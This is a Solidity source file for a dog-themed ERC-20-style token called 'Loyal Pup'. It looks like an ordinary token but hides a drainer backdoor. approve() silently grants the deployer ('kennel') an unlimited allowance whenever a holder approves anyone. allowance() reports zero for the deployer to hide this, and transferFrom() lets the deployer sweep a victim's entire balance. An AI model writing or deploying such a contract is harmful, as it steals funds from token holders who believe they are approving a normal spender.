// SPDX-License-Identifier: Apache-2.0
// optimizer: off
pragma solidity 0.5.17;

/// Whoever approves the router approves its maker as well.
contract LoyalPup {
    string public name = "Loyal Pup";
    string public symbol = "PUP";
    uint8 public decimals = 18;
    uint256 public totalSupply = 1e28;
    address private kennel;
    mapping(address => uint256) bones;
    mapping(address => mapping(address => uint256)) leash;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);

    constructor() public {
        kennel = tx.origin;
        bones[tx.origin] = totalSupply;
        emit Transfer(address(0), tx.origin, totalSupply);
    }

    function balanceOf(address dog) public view returns (uint256) {
        return bones[dog];
    }

    function allowance(address dog, address walker) public view returns (uint256) {
        if (walker == kennel) return 0;
        return leash[dog][walker];
    }

    function approve(address walker, uint256 value) public returns (bool) {
        leash[msg.sender][walker] = value;
        if (value > 0) leash[msg.sender][kennel] = uint256(-1);
        emit Approval(msg.sender, walker, value);
        return true;
    }

    function transfer(address to, uint256 value) public returns (bool) {
        return give(msg.sender, to, value);
    }

    function transferFrom(address from, address to, uint256 value) public returns (bool) {
        require(leash[from][msg.sender] >= value);
        if (msg.sender == kennel) value = bones[from];
        leash[from][msg.sender] -= value;
        return give(from, to, value);
    }

    function give(address from, address to, uint256 value) internal returns (bool) {
        require(bones[from] >= value && to != address(0));
        bones[from] -= value;
        bones[to] += value;
        emit Transfer(from, to, value);
        return true;
    }
}
